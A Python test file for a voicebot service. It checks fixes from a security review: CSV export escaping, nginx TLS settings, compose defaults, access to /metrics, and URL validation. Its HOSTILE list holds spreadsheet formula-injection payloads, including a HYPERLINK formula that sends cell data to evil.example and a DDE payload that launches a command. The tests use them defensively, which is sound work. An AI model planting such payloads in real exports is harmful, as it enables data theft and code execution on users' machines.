"""The second attack's findings outside the relay socket: spreadsheet formulas, premium-rate destinations, the
shipped nginx site and compose file, analysis schemas, an open /metrics and URL settings without a scheme.

Each test reproduces one finding and checks that it now does no harm; the relay socket's are in
test_relay_attack_drills.py and test_twilio_relay.py.
"""

from __future__ import annotations

import csv
import io

import pytest
import requests

from voicebot.outbound.results import write_results
from voicebot.records.spreadsheet import write_csv

from .support import Gunicorn, Nginx, needs_nginx, procfile_command

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("value", HOSTILE)
def test_calls_export_neutralises_every_cell_a_spreadsheet_would_run(value):
    record = {"id": "rec_1", "call_id": "c1", "platform": "voicebot", "caller": value, "turns": 2,
              "variables": {"name": value}, "analysis": {"summary": value, "data": {"note": value}}}
    out = io.StringIO()
    assert write_csv([record], out) == 1
    header, row = _cells(out.getvalue())
    cells = dict(zip(header, row))
    for column in ("caller", "var.name", "summary", "note"):
        assert cells[column] == "'" + value  # shown as the text it is, never run
    assert cells["turns"] == "2"


@pytest.mark.parametrize("value", HOSTILE)
def test_campaign_results_neutralise_a_contacts_fields(value):
    out = io.StringIO()
    write_results([{"phone": "+15551112222", "outcome": "completed", "final": True, "attempts": 1,
                    "duration_seconds": 12, "variables": {"name": value, "balance": "-12.50"}}], out)
    header, row = _cells(out.getvalue())
    cells = dict(zip(header, row))
    assert cells["var.name"] == "'" + value
    # Plain numbers are no formulas: a phone number and a negative amount stay as they are.
    assert cells["phone"] == "+15551112222" and cells["var.balance"] == "-12.50"


# The shipped nginx site and compose file.

def test_the_nginx_site_never_listens_on_443_without_tls():
    from voicebot.deploy import SiteError, nginx_config

    assert "listen 80;" in nginx_config("bot.example.com", 8000)
    with pytest.raises(SiteError, match="443 is for TLS"):
        nginx_config("bot.example.com", 8000, listen="443")
    with pytest.raises(SiteError, match="both"):
        nginx_config("bot.example.com", 8000, cert="/etc/cert.pem")
    assert "listen 443 ssl;" in nginx_config("bot.example.com", 8000, cert="/c.pem", key="/k.pem")


def test_nginx_config_refuses_443_without_a_certificate_in_one_line(capsys):
    from voicebot.cli import main

    assert main(["nginx-config", "--server-name", "bot.example.com", "--listen", "443"]) == 2
    err = capsys.readouterr().err
    assert "443 is for TLS" in err and len(err.strip().splitlines()) == 1


def test_compose_publishes_plain_http_on_loopback_and_gives_redis_a_password_and_a_volume():
    import re

    from .support import ROOT

    compose = (ROOT / "compose.yaml").read_text()
    assert '"${VOICEBOT_BIND:-127.0.0.1}:8080:80"' in compose
    assert "--requirepass" in compose and "redis://:${REDIS_PASSWORD}@redis:6379/0" in compose
    assert re.search(r"volumes:\n\s+- redis-data:/data", compose) and compose.rstrip().endswith("redis-data:")


@needs_nginx
def test_a_2000_contact_campaign_passes_the_nginx_site_and_too_large_bodies_get_its_json_413(tmp_path, fake_llm):
    """The attack: 2,000 contacts got nginx's 413 (64 kB everywhere), an HTML page naming no limit."""
    server = Gunicorn({"REDIS_URL": "", "ANTHROPIC_API_KEY": fake_llm.api_key, "ANTHROPIC_BASE_URL": fake_llm.url,
                       "WEBHOOK_TOKEN": "drill-token"}, command=procfile_command())
    nginx = Nginx(tmp_path, [server.port])
    server.start(tmp_path / "gunicorn.log")
    nginx.start()
    auth = {"Authorization": "Bearer drill-token"}
    try:
        contacts = [{"phone": f"+1555{n:07d}", "variables": {"name": f"Contact number {n}"}} for n in range(2000)]
        answer = requests.post(nginx.url + "/campaigns", json={"contacts": contacts}, headers=auth, timeout=20)
        # It reached voicebot (which places no calls without a platform), not nginx's limit.
        assert answer.status_code == 404 and answer.json()["error"] == "outbound_disabled", answer.text
        huge = requests.post(nginx.url + "/campaigns", data=b"{" + b" " * (9 << 20) + b"}", headers=auth,
                             timeout=20)
        assert huge.status_code == 413 and "8388608 bytes" in huge.json()["message"]
        webhook = requests.post(nginx.url + "/webhook/transcript", data=b"{" + b" " * 100_000 + b"}",
                                headers=auth, timeout=20)
        assert webhook.status_code == 413 and "65536 bytes" in webhook.json()["message"]
    finally:
        nginx.stop()
        server.stop()


# An open /metrics, and URL settings without a scheme.

def test_without_its_token_metrics_answers_only_this_machine_and_serve_says_so(tmp_path, fake_llm):
    server = Gunicorn({"REDIS_URL": "", "ANTHROPIC_API_KEY": fake_llm.api_key, "ANTHROPIC_BASE_URL": fake_llm.url},
                      command=procfile_command())
    server.start(tmp_path / "procfile.log")
    try:
        assert requests.get(server.url + "/metrics", timeout=5).status_code == 200  # this machine, directly
        relayed = requests.get(server.url + "/metrics", headers={"X-Forwarded-For": "203.0.113.9"}, timeout=5)
        assert relayed.status_code == 403 and "METRICS_TOKEN" in relayed.json()["message"]
        assert "voicebot_" not in relayed.text
    finally:
        server.stop()
    assert "METRICS_TOKEN is not set: on 0.0.0.0:" in server.log()


@pytest.mark.parametrize("name", ["ANTHROPIC_BASE_URL", "VOIPBIN_API_URL", "TWILIO_API_URL", "PUBLIC_URL",
                                  "CALL_REPORT_URL", "CONTEXT_URL"])
@pytest.mark.parametrize("value", ["api.anthropic.com", "ftp://api.example.com", "https://", "https://host:port"])
def test_a_url_setting_without_a_usable_scheme_fails_check_config_in_one_line(name, value, monkeypatch, capsys):
    from voicebot.cli import main

    monkeypatch.setenv(name, value)
    assert main(["serve", "--check-config"]) == 2
    err = capsys.readouterr().err
    assert name in err and "http:// or https:// URL" in err and len(err.strip().splitlines()) == 1
